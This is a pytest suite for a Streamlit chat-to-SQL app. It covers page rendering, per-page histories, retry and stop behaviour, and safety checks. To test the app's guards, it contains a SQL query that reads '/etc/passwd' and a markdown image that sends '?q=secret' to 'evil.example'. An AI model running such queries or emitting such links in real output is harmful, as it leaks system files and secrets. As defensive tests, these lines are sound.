"""The Streamlit app through ``streamlit.testing.v1.AppTest``, plus the UI's pure helpers.

AppTest runs the real ``app.py`` in-process (no browser), so these tests check what the script
renders and what it stores: every page renders, one question adds exactly two messages, histories
stay per page, a model outage ends in a friendly error with the history intact.
"""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from querychat.data import DuckDBSource, Limits
from querychat.engines.base import EngineError, Preview, Turn
from querychat.messages import ChatStore
from querychat.pipeline import Done, Failed, Token, ask
from querychat.schema import Schema, quote_ident
from querychat.ui.cache import ResultCache
from querychat.ui.charts import chart_spec
from querychat.ui.format import ZWSP, defuse_images, defuse_stream, suggestions, timing_line
from querychat.ui.live import STOPPED_EMPTY, LiveAnswer

ROOT = Path(__file__).resolve().parent.parent
APP = str(ROOT / "app.py")
CHAT_KEY = ChatStore.PREFIX + "chat"
SCRATCH_KEY = ChatStore.PREFIX + "scratchpad"
ENV = ("OPENAI_API_KEY", "OPENAI_BASE_URL", "QUERYCHAT_PROVIDER", "QUERYCHAT_MODEL", "QUERYCHAT_MAX_RETRIES", "QUERYCHAT_TIMEOUT")


@pytest.fixture(autouse=True)
def offline_by_default(monkeypatch: pytest.MonkeyPatch) -> None:
    """The developer's own key or provider must not leak into the tests."""
    for key in ENV:
        monkeypatch.delenv(key, raising=False)


def start() -> AppTest:
    at = AppTest.from_file(APP, default_timeout=60).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def ask_app(at: AppTest, question: str) -> AppTest:
    at.chat_input[0].set_value(question).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def text_of(block: Any) -> str:
    """All Markdown inside an AppTest chat message block."""
    return " ".join(md.value for md in block.markdown)


def stored(at: AppTest, key: str = CHAT_KEY) -> list:
    return list(at.session_state[key]) if key in at.session_state else []


# -- pages render ---------------------------------------------------------------------------------
def test_chat_page_renders_with_sample_data_and_suggestions() -> None:
    at = start()
    assert at.chat_input, "the first page is a chat page"
    assert len(at.chat_message) == 0
    sidebar = " ".join(m.value for m in at.sidebar.markdown)
    assert "penguins" in sidebar and "seattle_weather" in sidebar and "| 344 |" in sidebar
    assert "Offline" in sidebar
    labels = [b.label for b in at.button]
    assert "How many penguins of each species are there?" in labels
    assert "New chat" in labels
    assert at.sidebar.file_uploader, "an uploader in the sidebar"


@pytest.mark.parametrize("page", ["pages/scratchpad_page.py", "pages/data_page.py", "pages/performance_page.py"])
def test_every_page_renders(page: str) -> None:
    at = start()
    at.switch_page(page).run()
    assert not at.exception, [e.value for e in at.exception]
    assert len(at.chat_message) == 0


# -- one question ---------------------------------------------------------------------------------
def test_one_question_adds_exactly_two_messages_with_content_and_sql() -> None:
    at = ask_app(start(), "How many rows are there?")
    msgs = at.chat_message
    assert len(msgs) == 2
    assert msgs[0].name == "user" and text_of(msgs[0]) == "How many rows are there?"
    assert msgs[1].name == "assistant" and text_of(msgs[1]).strip()
    sql = [c.value for c in msgs[1].code]
    assert sql and "SELECT" in sql[0].upper()
    assert any("result rows analyzed" in c.value and "total" in c.value for c in msgs[1].caption)
    history = stored(at)
    assert [m.role for m in history] == ["user", "assistant"]
    answer = history[1]
    assert answer.status == "done" and answer.content.strip()
    for key in ("sql", "sql_ms", "execution_ms", "first_token_ms", "total_ms", "total_rows"):
        assert key in answer.metadata, key


def test_second_question_keeps_the_first_and_adds_two() -> None:
    at = ask_app(start(), "How many rows are there?")
    first = stored(at)
    at = ask_app(at, "How many penguins of each species are there?")
    history = stored(at)
    assert len(history) == 4 and len(at.chat_message) == 4
    assert history[:2] == first, "earlier messages are never rewritten"
    assert len(at.chat_message[3].code) == 1, "the newest answer shows its SQL"


def test_suggestion_button_asks_it() -> None:
    at = start()
    question = "How many penguins of each species are there?"
    next(b for b in at.button if b.label == question).click().run()
    assert not at.exception
    assert stored(at)[0].content == question
    assert len(at.chat_message) == 2


def test_histories_stay_per_page() -> None:
    at = ask_app(start(), "How many rows are there?")
    at.switch_page("pages/scratchpad_page.py").run()
    assert len(at.chat_message) == 0, "the scratchpad does not show the chat page's messages"
    at = ask_app(at, "How many penguins of each species are there?")
    assert len(at.chat_message) == 2
    at.switch_page("pages/chat_page.py").run()
    assert text_of(at.chat_message[0]) == "How many rows are there?"
    assert len(at.chat_message) == 2
    assert len(stored(at, CHAT_KEY)) == 2 and len(stored(at, SCRATCH_KEY)) == 2


def test_new_chat_clears_only_the_current_page() -> None:
    at = ask_app(start(), "How many rows are there?")
    at.switch_page("pages/scratchpad_page.py").run()
    at = ask_app(at, "How many rows are there?")
    next(b for b in at.button if b.label == "New chat").click().run()
    assert len(at.chat_message) == 0 and stored(at, SCRATCH_KEY) == []
    assert len(stored(at, CHAT_KEY)) == 2


def test_uploads_become_tables_once_and_a_bad_file_only_says_so() -> None:
    at = ask_app(start(), "How many rows are there?")
    good = "city,amount\n" + "".join(f"{c},{i}\n" for i, c in enumerate(["Lyon", "Porto", "Graz"] * 40))
    at.sidebar.file_uploader[0].set_value(
        [("my sales (1).csv", good.encode(), "text/csv"), ("broken.csv", b"\x00\x01garbage\xff" * 40, "text/csv")]
    ).run()
    assert not at.exception
    src = at.session_state["qc.source"]
    assert src.tables() == ["penguins", "seattle_weather", "my_sales_1"]
    assert any("broken.csv" in e.value for e in at.sidebar.error), "a bad file says what is wrong"
    for _ in range(3):  # reruns (any click) must not load the same upload again
        at.run()
    assert src.tables() == ["penguins", "seattle_weather", "my_sales_1"]
    assert "| my_sales_1 | 120 | 2 |" in " ".join(m.value for m in at.sidebar.markdown)
    assert len(stored(at)) == 2, "the chat is untouched"
    at = ask_app(at, "How many rows are in my sales?")
    assert len(stored(at)) == 4


# -- failures -------------------------------------------------------------------------------------
def test_engine_failure_is_friendly_keeps_history_and_retry_works(monkeypatch: pytest.MonkeyPatch) -> None:
    at = ask_app(start(), "How many rows are there?")  # an offline answer first: it must survive
    before = stored(at)
    monkeypatch.setenv("QUERYCHAT_PROVIDER", "openai")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")  # nothing listens on port 9
    monkeypatch.setenv("QUERYCHAT_MAX_RETRIES", "0")
    at = ask_app(at, "How many penguins of each species are there?")
    history = stored(at)
    assert len(history) == 4 and history[:2] == before
    failed = history[3]
    assert failed.status == "error" and failed.content.strip()
    errors = " ".join(e.value for e in at.error)
    assert "Could not reach the model service" in errors
    labels = [b.label for b in at.button]
    assert "Retry" in labels and "Switch to the offline engine" in labels
    assert not any("Offline" in m.value for m in at.sidebar.markdown)

    next(b for b in at.button if b.label == "Switch to the offline engine").click().run()
    assert any("Offline" in m.value for m in at.sidebar.markdown)
    next(b for b in at.button if b.label == "Retry").click().run()
    assert not at.exception
    retried = stored(at)
    assert len(retried) == 4, "a retry answers again in place: no second user message, no second answer"
    assert retried[:3] == history[:3]
    assert retried[3].id == failed.id and retried[3].status == "done" and retried[3].content.strip()
    assert retried[3].metadata["error"] is None and retried[3].metadata["retries"] == 1
    assert retried[3].metadata["sql"] and retried[3].id in at.session_state["qc.results"]
    assert not at.error, "the old error is gone from the page"
    bubbles = [text_of(m) for m in at.chat_message]
    assert len(bubbles) == 4 and bubbles.count("How many penguins of each species are there?") == 1


def test_retry_of_an_older_error_asks_again_at_the_end() -> None:
    at = ask_app(start(), "What is the meaning of life?")  # the offline engine declines
    assert stored(at)[1].status == "error"
    at = ask_app(at, "How many rows are there?")
    again = [b for b in at.button if b.label == "Ask again"]
    assert len(again) == 1 and not [b for b in at.button if b.label == "Retry"]
    again[0].click().run()
    history = stored(at)
    assert [m.role for m in history] == ["user", "assistant"] * 3
    assert history[1].status == "error", "the older error stays as it was"
    assert history[4].content == "What is the meaning of life?"


def test_stop_marks_the_answer_at_once_and_the_run_takes_no_more_tokens(source: DuckDBSource) -> None:
    """What the Stop button does: its callback (first thing in the next run) marks the message;
    the interrupted run, still holding the same flags, stops feeding it."""
    from querychat.ui import state

    session: dict = {}
    store = ChatStore(session, "chat")
    store.add("user", "q")
    flags: dict[str, str] = {}
    live = LiveAnswer(store, "q", stop_flags=flags)
    tokens = live.tokens(ask("q", source, ScriptedEngine(["one ", "two ", "three ", "four"])))
    assert [next(tokens), next(tokens)] == ["one ", "two "]
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(state.st, "session_state", {**session, state.STOP_FLAGS_KEY: flags})
        state.stop_answer("chat", live.id)
    assert store.messages()[1].status == "stopped" and store.messages()[1].content == "one two "
    live.parts.append("three ")  # a token the run stored in the very instant of the click...
    store.update(live.id, content="one two three ")
    assert list(tokens) == [], "no token after the click"
    live.interrupted()
    msg = store.messages()[1]
    assert msg.status == "stopped" and msg.content == "one two " and len(store) == 2, "...is dropped again"
    assert "**3** result rows ·" in timing_line(msg.metadata), "no '- of 3' for a stopped answer"

    # its retry (in place) is not stopped by the old flag
    again = LiveAnswer(store, "q", reuse=live.id, stop_flags=flags)
    assert again.id == live.id and not again.stopped and again.message.status == "streaming"
    assert again.message.metadata["stopped"] is None and len(store) == 2


def test_stopped_and_unfinished_messages_render_with_a_note() -> None:
    at = AppTest.from_file(APP, default_timeout=60)
    state: dict = {}
    store = ChatStore(state, "chat")
    store.add("user", "How many rows are there?")
    store.add("assistant", "There are 34", metadata={"question": "How many rows are there?"}, status="stopped")
    store.add("user", "And now?")
    store.add("assistant", "Half an", metadata={"question": "And now?"}, status="streaming")
    at.session_state[CHAT_KEY] = state[CHAT_KEY]
    at.run()
    assert not at.exception
    captions = " ".join(c.value for c in at.caption)
    assert "Stopped" in captions and "did not finish" in captions
    assert [b.label for b in at.button].count("Ask again") == 2


def test_data_page_runs_sql_through_the_guard() -> None:
    at = start()
    at.switch_page("pages/data_page.py").run()
    assert at.dataframe, "a preview and a column profile"
    at.text_area(key="qc.data.sql").set_value("SELECT species, count(*) AS n FROM penguins GROUP BY species ORDER BY n DESC")
    at.button(key="FormSubmitter:qc.data.sql_form-Run query").click().run()
    assert not at.exception and not at.error
    assert any("rows" in c.value and "ran in" in c.value for c in at.caption)
    at.text_area(key="qc.data.sql").set_value("DROP TABLE penguins")
    at.button(key="FormSubmitter:qc.data.sql_form-Run query").click().run()
    assert any("Refused by the SQL guard" in e.value for e in at.error)
    at.text_area(key="qc.data.sql").set_value("SELECT * FROM read_csv('/etc/passwd')")
    at.button(key="FormSubmitter:qc.data.sql_form-Run query").click().run()
    assert any("Refused by the SQL guard" in e.value for e in at.error)


def test_performance_page_shows_every_answer_against_targets() -> None:
    at = ask_app(start(), "How many rows are there?")
    at.switch_page("pages/scratchpad_page.py").run()
    at = ask_app(at, "How many penguins of each species are there?")
    at.switch_page("pages/performance_page.py").run()
    assert not at.exception
    labels = [m.label for m in at.metric]
    assert labels.count("Writing SQL") == 2 and labels.count("Whole answer") == 2
    assert all(m.delta for m in at.metric)
    assert any("2 of 2 met" in (p.proto.text or "") for p in at.get("progress"))


# -- pure helpers: live message bookkeeping, charts, cache, suggestions ---------------------------
class ScriptedEngine:
    """Writes one fixed SQL and streams fixed tokens; optionally breaks after some of them."""

    name = "scripted"
    model = "test"

    def __init__(self, tokens: Sequence[str], break_after: int | None = None) -> None:
        self.tokens = tokens
        self.break_after = break_after

    def write_sql(self, question: str, schema: Schema, history: Sequence[Turn] = (), error: str | None = None) -> str:
        return f"SELECT species, count(*) AS n FROM {quote_ident(schema.tables[0].name)} GROUP BY species ORDER BY n DESC"

    def stream_answer(self, question: str, sql: str, result: Preview, history: Sequence[Turn] = ()) -> Iterator[str]:
        for i, tok in enumerate(self.tokens):
            if self.break_after is not None and i == self.break_after:
                raise EngineError("stream dropped", "The answer was cut off.")
            yield tok


@pytest.fixture
def source() -> Iterator[DuckDBSource]:
    src = DuckDBSource(Limits(timeout_s=3.0))
    src.add_file(ROOT / "sample_data" / "penguins.csv", name="penguins")
    yield src
    src.close()


def test_live_answer_stopped_midway_keeps_the_partial_text(source: DuckDBSource) -> None:
    store = ChatStore({}, "chat")
    store.add("user", "q")
    live = LiveAnswer(store, "q")
    events = ask("q", source, ScriptedEngine(["one ", "two ", "three ", "four"]))
    for event in events:
        live.feed(event)
        if isinstance(event, Token) and len(live.parts) == 2:
            break  # what Streamlit's stop does: the consumer never comes back
    events.close()
    live.interrupted()
    msgs = store.messages()
    assert len(msgs) == 2 and msgs[1].status == "stopped" and msgs[1].content == "one two "
    assert msgs[1].metadata["sql"].upper().startswith("SELECT")


def test_live_answer_stopped_before_any_token_is_not_empty() -> None:
    store = ChatStore({}, "chat")
    live = LiveAnswer(store, "q")
    live.interrupted()
    assert store.messages()[0].content == STOPPED_EMPTY


def test_live_answer_broken_stream_keeps_partial_and_says_incomplete(source: DuckDBSource) -> None:
    store = ChatStore({}, "chat")
    live = LiveAnswer(store, "q")
    streamed = list(live.tokens(ask("q", source, ScriptedEngine(["a ", "b ", "c"], break_after=2))))
    assert streamed == ["a ", "b "]
    msg = store.messages()[0]
    assert isinstance(live.outcome, Failed)
    assert msg.status == "error" and msg.content == "a b " and msg.metadata["incomplete"] is True
    assert len(store) == 1, "one message, whatever the number of tokens"


def test_live_answer_done_holds_answer_and_metadata(source: DuckDBSource) -> None:
    store = ChatStore({}, "chat")
    live = LiveAnswer(store, "q")
    tokens = [f"w{i} " for i in range(50)]
    assert list(live.tokens(ask("q", source, ScriptedEngine(tokens)))) == tokens
    msg = store.messages()[0]
    assert isinstance(live.outcome, Done) and msg.status == "done" and msg.content == "".join(tokens)
    assert len(store) == 1 and msg.metadata["total_rows"] == 3
    assert "first token" in timing_line(msg.metadata)


def test_live_answer_unexpected_error_names_the_unfinished_stage(source: DuckDBSource) -> None:
    store = ChatStore({}, "chat")
    live = LiveAnswer(store, "q")
    live.fail(KeyError("boom"))
    msg = store.messages()[0]
    assert msg.status == "error" and msg.content.strip() and msg.metadata["error_stage"] == "sql"
    assert "KeyError" in msg.metadata["error"]


def test_chart_choice_follows_the_shape() -> None:
    assert chart_spec(["species", "n"], ["VARCHAR", "BIGINT"], 3)["mark"] == "bar"
    assert chart_spec(["date", "temp"], ["DATE", "DOUBLE"], 100)["mark"] == "line"
    assert chart_spec(["year", "n"], ["BIGINT", "BIGINT"], 4)["mark"] == "line"
    assert chart_spec(["n"], ["BIGINT"], 1) is None
    assert chart_spec(["a", "b"], ["VARCHAR", "VARCHAR"], 5) is None
    assert chart_spec(["id", "name", "x"], ["VARCHAR", "VARCHAR", "DOUBLE"], 500) is None


def test_chart_builds_with_sql_style_column_names() -> None:
    import pandas as pd

    from querychat.ui.charts import make_chart

    df = pd.DataFrame({"species.name": ["a", "b"], "avg(body_mass_g)": [1.5, 2.5]})
    chart = make_chart(df, ["VARCHAR", "DOUBLE"])
    assert chart is not None and chart.to_dict()["mark"]["type"] == "bar"


def test_result_cache_keeps_recent_results_whole_and_trims_old_ones(source: DuckDBSource) -> None:
    result = source.query("SELECT * FROM range(5000) t(i)")
    cache = ResultCache(full=2, display_rows=100)
    for i in range(4):
        cache.put(f"m{i}", result, "chat")
    assert len(cache.get("m0").result.rows) == 100 and not cache.get("m0").complete
    assert len(cache.get("m3").result.rows) == 5000 and cache.get("m3").complete
    assert len(cache.frame("m3")) == 100
    cache.drop_page("chat")
    assert len(cache) == 0


def test_suggestions_fit_what_is_loaded(source: DuckDBSource) -> None:
    assert suggestions(source.schema())[0] == "How many penguins of each species are there?"
    source.add_arrow("bars_upload", __import__("pandas").DataFrame({"city": ["a", "b"], "amount": [1, 2]}))
    assert suggestions(source.schema())[0] == "How many rows are in bars_upload?"


# -- safety and layering --------------------------------------------------------------------------
def test_model_markdown_images_are_defused_in_history_and_streams() -> None:
    leak = "Done ![chart](https://evil.example/p.png?q=secret) and [a link](https://example.org)"
    assert "![" not in defuse_images(leak) and "[a link](https://example.org)" in defuse_images(leak)
    streamed = "".join(defuse_stream(["Done !", "[chart](https://evil.example/p.png)", " ok!", "![x](y)"]))
    assert "![" not in streamed and streamed.replace(ZWSP, "") == "Done ![chart](https://evil.example/p.png) ok!![x](y)"


def test_no_raw_html_and_no_eval_in_the_ui() -> None:
    files = [ROOT / "app.py", *sorted((ROOT / "pages").glob("*.py")), *sorted((ROOT / "querychat" / "ui").glob("*.py"))]
    for path in files:
        text = path.read_text()
        assert "unsafe_allow_html=True" not in text, path
        assert "st.html(" not in text, path
        assert "eval(" not in text and "exec(" not in text, path


def test_core_import_pulls_in_neither_streamlit_nor_the_ui() -> None:
    code = "import sys, querychat, querychat.pipeline; assert 'streamlit' not in sys.modules; assert 'querychat.ui' not in sys.modules"
    subprocess.run([sys.executable, "-c", code], check=True, cwd=ROOT)
